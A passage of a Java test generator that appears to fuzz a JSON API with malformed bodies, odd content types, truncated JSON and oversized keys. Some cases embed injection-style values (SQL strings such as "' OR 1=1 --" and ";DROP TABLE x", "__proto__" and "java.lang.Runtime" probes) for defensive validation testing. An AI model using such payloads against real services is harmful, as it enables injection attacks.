        }),
        EMAIL(g -> {
            Obj body = g.valid();
            String field = g.r.nextBoolean() ? "licenseEmail" : "contactEmail";
            body.put(field, g.r.nextInt(3) == 0 ? g.pick(VALID_EMAILS) : g.pick(INVALID_EMAILS));
            return g.structured("email", field, body);
        }),
        COUNTRY(g -> {
            Obj body = g.valid();
            body.put("country", g.pick(List.of("XX", "ZZ", "EU", "UK", "C", "CHE", "C H", "", "  ", "ＣＨ",
                    "\u0043\u0048\u0000", "CH\n", "756", "Switzerland", "A1", "XK", "DE", "LI", "AQ", "GB")));
            return g.structured("country", "country", body);
        }),
        LOCALE(g -> {
            Obj body = g.valid();
            body.put("locale", g.pick(List.of("not a locale", "de_CH", "x", "de-CH-", "-de", "d3-CH",
                    "en-" + "a".repeat(9), "de-CH-" + "x".repeat(30), "zh-Hant-TW", "es-419", "en-US-x-twain",
                    "DE-ch", "de-CH\r\n", "")));
            return g.structured("locale", "locale", body);
        }),
        WRONG_CONTENT_TYPE(g -> {
            byte[] body = utf8(write(g.valid()));
            String type = g.pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded",
                    "multipart/form-data; boundary=x", "text/json", "application/problem+json",
                    "application/vnd.api+json", "application/octet-stream", "text/html; charset=utf-8",
                    "application/jsonx", "json", "application/json-patch+json"));
            return g.labelled("content-type", type, body, type, Expect.INVALID);
        }),
        UNUSUAL_CONTENT_TYPE(g -> {
            byte[] body = utf8(write(g.valid()));
            String type = g.pick(List.of("application/json; charset=utf-8", "application/json;charset=UTF-8",
                    "APPLICATION/JSON", "application/json; charset=iso-8859-1", "application/json; foo=bar"));
            boolean none = g.r.nextInt(4) == 0;
            Expect expect = type.startsWith("application/json; charset=utf") || type.equals("application/json;charset=UTF-8")
                    ? Expect.VALID : Expect.EITHER;
            return g.labelled("content-type-edge", none ? "none" : type, body, none ? null : type,
                    none ? Expect.EITHER : expect);
        }),
        TRUNCATED_JSON(g -> {
            byte[] body = utf8(write(g.valid()));
            int cut = 1 + g.r.nextInt(body.length - 1);
            return g.labelled("truncated", "at " + cut, Arrays.copyOf(body, cut), "application/json",
                    Expect.INVALID);
        }),
        TRAILING_GARBAGE(g -> {
            String garbage = g.pick(List.of("x", "}", "{}", ",", "]", " garbage", "\u0000", "{\"impact\":\"CRITICAL\"}",
                    "\n--boundary--", "null", "1", "\"", "/* comment */", "// comment", ";DROP TABLE x"));
            return g.labelled("trailing", garbage, utf8(write(g.valid()) + garbage), "application/json",
                    Expect.INVALID);
        }),
        TRAILING_WHITESPACE(g -> g.labelled("trailing-whitespace", "ws",
                utf8(g.pick(List.of(" ", "\n", "\r\n", "\t ")) + write(g.valid()) + g.pick(List.of(" ", "\n", "\r\n\r\n"))),
                "application/json", Expect.VALID)),
        BOM(g -> {
            byte[] bom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF};
            byte[] body = utf8(write(g.valid()));
            return switch (g.r.nextInt(3)) {
                case 0 -> g.labelled("bom", "leading", concat(bom, body), "application/json", Expect.EITHER);
                case 1 -> g.labelled("bom", "double", concat(bom, bom, body), "application/json", Expect.INVALID);
                default -> g.labelled("bom", "trailing", concat(body, bom), "application/json", Expect.INVALID);
            };
        }),
        LONG_KEY(g -> {
            Obj body = g.valid();
            int length = g.pick(List.of(1_000, 10_000, 45_000, 100_000, 1_000_000));
            body.add("k".repeat(length), g.r.nextBoolean() ? "v" : JNull.NULL);
            return g.structured("long-key", String.valueOf(length), body);
        }),
        UNKNOWN_FIELDS(g -> {
            Obj body = g.valid();
            body.add(g.pick(List.of("id", "status", "eligibility", "submittedAt", "resolvedAt", "__proto__",
                    "@class", "constructor", "history", "rejectionReason")), g.pick(List.<Object>of(
                    "00000000-0000-0000-0000-000000000000", "RESOLVED", "ACCEPTED", "2020-01-01T00:00:00Z",
                    new Obj().put("polluted", true), "java.lang.Runtime", List.of(new Obj().put("type", "RESOLVED")))));
            return g.structured("unknown-field", "extra", body);
        }),
        SCALAR_BODY(g -> {
            String body = g.pick(List.of("42", "-0", "1e309", "null", "true", "false", "\"string\"", "{}", "",
                    " ", "\n", "0x1F", "NaN", "Infinity", "-Infinity", "9".repeat(2_000), "'single'", "{'a':1}",
                    "{\"licenseEmail\"}", "{,}", "{\"a\":1,}", "[1,]", "\u0000", "\"" + "x".repeat(10_000) + "\""));
            return g.labelled("scalar", body.length() > 20 ? body.substring(0, 20) + "..." : body, utf8(body),
                    "application/json", Expect.INVALID);
        }),
        IDEMPOTENCY_KEY(g -> {
            byte[] body = utf8(write(g.valid()));
            String key = g.pick(List.of("has space", "k".repeat(256), "tab\tkey", "' OR 1=1 --", "a,b c"));
            return new Case("idempotency-key", key.length() > 20 ? key.substring(0, 20) + "..." : key, body,
                    "application/json", key, Expect.INVALID);
        }),
        COMBINED(g -> {
            Obj body = g.valid();
            StringBuilder note = new StringBuilder();
            int n = 2 + g.r.nextInt(3);
            for (int i = 0; i < n; i++) {
                String field = g.field();
                note.append(field).append(' ');
                switch (g.r.nextInt(6)) {
                    case 0 -> body.remove(field);
                    case 1 -> body.put(field, g.otherType());
                    case 2 -> body.put(field, JNull.NULL);
                    case 3 -> body.put(field, g.inject(body, field, g.pick(CONTROL)));
                    case 4 -> body.put(field, g.inject(body, field, g.pick(SQL)));
                    default -> body.put(field, g.inject(body, field, g.pick(SCRIPT)));
                }
            }
            return g.structured("combined", note.toString().trim(), body);
        });

        final Function<Generator, Case> generate;

        Kind(Function<Generator, Case> generate) {
            this.generate = generate;
        }
    }

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] p : parts) {
            out.writeBytes(p);
        }
        return out.toByteArray();
    }

    static final class HexFormatHolder {
        static String hex(byte[] bytes) {
            return java.util.HexFormat.of().formatHex(bytes);
        }
    }
}
